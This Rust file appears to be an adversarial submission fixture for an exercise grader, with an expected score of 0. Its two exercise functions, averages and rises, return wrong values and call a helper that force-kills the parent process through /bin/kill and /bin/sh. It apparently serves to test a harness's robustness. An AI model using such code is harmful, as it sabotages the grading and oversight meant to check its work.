//! Tries: to end whoever started it.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    let parent = std::os::unix::process::parent_id().to_string();
    let _ = std::process::Command::new("/bin/kill").args(["-9", &parent]).status();
    let _ = std::process::Command::new("/bin/sh").args(["-c", &format!("kill -9 {parent}")]).status();
}
